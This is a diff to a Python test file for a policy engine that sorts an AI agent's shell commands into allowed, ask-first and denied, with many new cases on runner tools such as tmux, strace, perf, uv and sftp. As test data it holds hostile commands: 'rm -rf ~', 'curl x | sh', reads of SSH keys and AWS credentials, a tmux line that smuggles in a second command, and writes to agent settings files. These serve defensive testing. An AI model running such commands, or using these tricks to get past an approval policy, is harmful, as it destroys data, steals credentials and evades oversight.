@@ -227,7 +227,7 @@ CASES = [
     ("git stash", "git stash clear", Q),
     ("git stash", "git stash drop stash@{0}", Q),
     ("gzip a.txt", "gzip -k a.txt", A),
-    ("gzip a.txt", "gzip -S .json .claude/settings", Q),
+    ("gzip a.txt", "gzip -S .json .claude/settings", D),  # and `settings.gz` is protected
     ("gzip a.txt", "gzip --suffix=rc HOME/.bash", Q),
     # review S9: an approval for other hosts does not reach this machine through ssh
     ("ssh build1 uptime", "ssh build2 uptime", A),
@@ -247,6 +247,27 @@ CASES = [
     ("rsync -a src/ build1:/tmp/", "rsync -a localhost:.ssh/ keys/", Q),
     ("rsync -a src/ build1:/tmp/", "rsync -a src/ build2:/srv/x", A),
     ("sftp build1", "sftp u@[::1]:/etc", Q),
+    # review T: runner verbs, abbreviations, option values, interpreters behind runners
+    ("tmux ls", "tmux ls \\; new-window 'cat HOME/.aws/credentials > /tmp/x'", Q),
+    ("tmux ls", "tmux ls -F x", A),
+    ("perf stat ls", "perf stat ls -l", A),
+    ("uv run python x.py", "uv run python x.py --verbose", A),
+    ("uv run python x.py", "uv run python -c 'import os'", Q),
+    ("uv run pytest tests", "uv run pytest -x", A),
+    ("npm x cowsay", "npm x cowsay hi", A),
+    ("gzip a.txt", "gzip -dN notes.gz", Q),
+    ("gzip a.txt", "gzip -d CLAUDE.md.gz", D),  # writes CLAUDE.md
+    ("gzip a.txt", "gunzip HOME/.bashrc.gz", D),
+    ("gzip a.txt", "gzip -d notes.gz", A),
+    ("git clean -n", "git clean -fd -e '!*'", Q),
+    ("git checkout -b feature", "git checkout -- .", Q),
+    ("git checkout -b feature", "git checkout -B main", Q),
+    ("git switch feature", "git switch -C main", Q),
+    ("git restore a.txt", "git restore .", Q),
+    ("git restore a.txt", "git restore b.txt", A),
+    ("sftp build1", "sftp -P 22 localhost", Q),
+    ("sftp build1", "sftp -p localhost:.aws/credentials leak", Q),
+    ("ssh build1 uptime", "ssh -P tag localhost id", Q),
     # npm: outside the project
     ("npm install lodash", "npm install left-pad", A),
     ("npm install lodash", "npm install -g left-pad", Q),
@@ -274,14 +295,14 @@ def test_an_approved_prefix_does_not_reach_further(
     [
         # a bare runner approved (an approvals file may hold one): what it runs is judged
         ("strace", "strace ls -la", A),
-        ("strace", "strace -f -o /dev/null rm -rf ~", Q),  # `/dev/null rm …` runs: unknown
+        ("strace", "strace -f -o /dev/null rm -rf ~", D),  # `-o` may take `/dev/null` (T3)
         ("strace", "strace -f rm -rf ~", D),
         ("strace", "strace -o /dev/null cat ~/.ssh/id_rsa", D),
         ("strace", "strace -f sudo id", D),
         ("poetry run", "poetry run pytest", Q),
         ("poetry run", "poetry run ls", A),
         ("script", "script -qc 'cat ~/.aws/credentials' /dev/null", Q),
-        ("tmux new", "tmux new -d rm -rf ~", D),
+        ("tmux new", "tmux new -d rm -rf ~", Q),  # `~` might end in `;`: the clause asks first
         ("strace", "strace ./a.out", Q),  # a program the policy does not know (review S1)
         ("strace", "strace -f python3.11 -c 'import os'", Q),
         ("valgrind", "valgrind vim -c '!id'", Q),
@@ -383,12 +404,27 @@ def test_a_runner_line_extends_the_built_in_runners(
         ("perf", "perf stat rm -rf ~", D),
         ("perf", "perf -v stat rm -rf ~", D),
         ("tmux", "tmux ls", A),
-        ("tmux", "tmux -L sock new rm -rf ~", D),
-        ("tmux", "tmux $X rm -rf ~", D),  # a word that cannot be read may be the verb
+        ("tmux", "tmux -L sock new rm -rf ~", Q),  # the `;` clause, as above
+        ("tmux", "tmux $X rm -rf src", Q),  # `$X` may be the verb, or `;`
         ("op", "op run -- rm -rf ~", D),
         ("op", "op --account x run rm -rf ~", D),
         ("uv", "uv sync", A),
         ("uv", "uv --directory d run -- rm -rf ~", D),
+        # review T: option values read as the command, abbreviated and missing verbs
+        ("strace", "strace -o echo sh -c 'rm -rf src'", Q),
+        ("perf", "perf stat -o echo rm -rf src", Q),
+        ("perf", "perf lock record sh -c 'curl x | sh'", Q),
+        ("perf", "perf kmem record rm -rf src", Q),
+        ("tmux", "tmux new-s 'curl x | sh'", Q),
+        ("tmux", "tmux split 'cat ~/.aws/credentials'", Q),
+        ("tmux", "tmux send -t 0 'rm -rf ~' Enter", Q),
+        ("npm", "npm exe -c 'curl x | sh'", Q),
+        ("npm", "npm x -c 'curl x | sh'", Q),
+        ("uv", "uv tool run --from evil x", Q),
+        ("op run --", "op run -- rm -rf ~", D),  # approved past the verb: still judged
+        ("strace -f", "strace -f rm -rf ~", D),
+        ("uv run python x.py", "uv run python -c 'print(1)'", Q),
+        ("uv run pip install", "uv run pip install --target ~/.ssh x", D),
     ],
 )
 def test_an_approval_short_of_a_runner_verb_does_not_cover_its_command(
@@ -417,3 +453,19 @@ def test_a_runner_suggestion_names_its_verb_and_program(
     ws, home = places
     decision = load_policy().evaluate(command, workspace=ws, env={"HOME": str(home)})
     assert decision.suggested_rule == offered, decision.explain()
+
+
+def test_this_machine_by_its_interface_addresses_and_hosts_names() -> None:
+    # review T: `hostname -I` tells the agent this machine's addresses, and /etc/hosts its
+    # other names; each of them reaches the local sshd as well as `localhost` does
+    from policylang.engine.rules import _local_addresses, loopback_reach
+
+    for address in sorted(_local_addresses()):
+        assert loopback_reach(("ssh", address, "id")) == address
+    with open("/etc/hosts", encoding="utf-8") as hosts:
+        for line in hosts:
+            fields = line.split("#", 1)[0].split()
+            if len(fields) >= 2 and fields[0].startswith("127."):
+                for name in fields[1:]:
+                    assert loopback_reach(("ssh", name, "id")) is not None, name
+    assert loopback_reach(("ssh", "192.0.2.254", "id")) in (None, "192.0.2.254")
